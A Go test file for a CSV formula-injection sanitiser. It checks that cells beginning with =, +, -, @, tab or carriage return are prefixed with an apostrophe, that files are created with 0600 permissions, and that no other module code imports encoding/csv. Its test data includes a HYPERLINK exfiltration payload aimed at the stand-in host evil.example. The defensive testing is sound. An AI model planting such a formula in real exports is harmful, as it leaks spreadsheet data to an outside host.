package csvsafe

import (
	"bytes"
	"encoding/csv"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?"&J2,"x")`, `'=HYPERLINK("https://evil.example/?"&J2,"x")`},
		{"+358401234567", "'+358401234567"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"Pekka", "Pekka"},
		{"", ""},
		{"18-29", "18-29"},
		{"<5", "<5"},
		{"a=b", "a=b"},
		{"'=already", "'=already"},
		{" =1", " =1"},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			if got := Cell(tc.in); got != tc.want {
				t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestWriterRoundTrip(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	_ = w.Write([]string{"name", "city"})
	_ = w.Write([]string{`=HYPERLINK("https://evil.example/?"&J2,"x") Puupää`, "Espoo, \"FI\""})
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][0] != `'=HYPERLINK("https://evil.example/?"&J2,"x") Puupää` || rows[1][1] != `Espoo, "FI"` {
		t.Fatalf("rows: %q", rows)
	}
}

func TestCreate(t *testing.T) {
	p := filepath.Join(t.TempDir(), "x.csv")
	f, err := Create(p)
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	if info, _ := os.Stat(p); info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", info.Mode().Perm())
	}
	if _, err := Create(p); err == nil {
		t.Error("Create overwrote an existing file")
	}
}

// TestOnlyWriterOfCSV: no other code of the module writes CSV itself, so
// every export (invoices, statistics, and later ones) is formula-safe.
func TestOnlyWriterOfCSV(t *testing.T) {
	root, _ := filepath.Abs("../..")
	fset := token.NewFileSet()
	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			switch d.Name() {
			case "node_modules", ".git", ".local", "bin", ".aws-sam":
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || strings.Contains(path, string(filepath.Separator)+"csvsafe"+string(filepath.Separator)) {
			return nil
		}
		f, err := parser.ParseFile(fset, path, nil, parser.ImportsOnly)
		if err != nil {
			return nil // another engineer's file mid-edit is not this test's business
		}
		for _, im := range f.Imports {
			if im.Path.Value == `"encoding/csv"` {
				rel, _ := filepath.Rel(root, path)
				t.Errorf("%s imports encoding/csv; write CSV through internal/csvsafe", rel)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
